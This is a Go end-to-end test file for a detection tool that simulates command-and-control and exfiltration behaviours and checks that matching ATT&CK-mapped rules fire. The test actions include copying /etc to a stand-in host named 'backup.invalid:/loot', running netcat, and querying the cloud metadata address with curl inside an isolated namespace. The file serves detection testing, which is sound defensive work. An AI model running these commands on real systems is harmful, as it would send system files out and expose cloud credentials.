package e2e

import "testing"

// Command and control and exfiltration: docs/coverage.md's rows of TA0011
// and TA0010 that are not reverse shells (those are in
// coverage_execution_test.go, where the shell is the point).
func init() {
	register(
		behaviour{
			name: "ssh to port 8443 on loopback",
			perform: func(t *testing.T, a *arena) string {
				a.hostMayFail(t, "ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "StrictHostKeyChecking=no",
					"-o", "UserKnownHostsFile=/dev/null", "-p", "8443", "vigil-e2e@127.0.0.1", "true")
				return `process.executable.name:="ssh" network.peer.port:=8443`
			},
			expect: []expected{{"VGL-NET-013", "T1571"}},
		},
		behaviour{
			name: "netcat and scp run in a runc container",
			perform: func(t *testing.T, a *arena) string {
				return a.inRunc(t, "vigil-e2e-nettools", "mkdir -p /usr/bin && cp /bin/busybox /usr/bin/scp && "+
					"(nc -h; /usr/bin/scp -r /etc backup.invalid:/loot; true) 2>/dev/null")
			},
			expect: []expected{{"VGL-NET-011", "T1095"}, {"VGL-NET-012", "T1048"}},
		},
		behaviour{
			// The metadata address exists only on the loopback of a network
			// namespace made for this command (unshare --net): the connect
			// is refused there and nothing leaves the machine.
			name: "cloud metadata address queried with curl in a network namespace of its own on the host",
			perform: func(t *testing.T, a *arena) string {
				a.shell(t, "unshare --net sh -c 'ip link set lo up && ip addr add 169.254.169.254/32 dev lo && "+
					"(curl -s -m 2 http://169.254.169.254/latest/meta-data/; true)'; true")
				return `event_name:="network.connect" process.executable.name:="curl" network.peer.address:="169.254.169.254"`
			},
			expect: []expected{{"VGL-NET-009", "T1552.005"}},
		},
	)
}
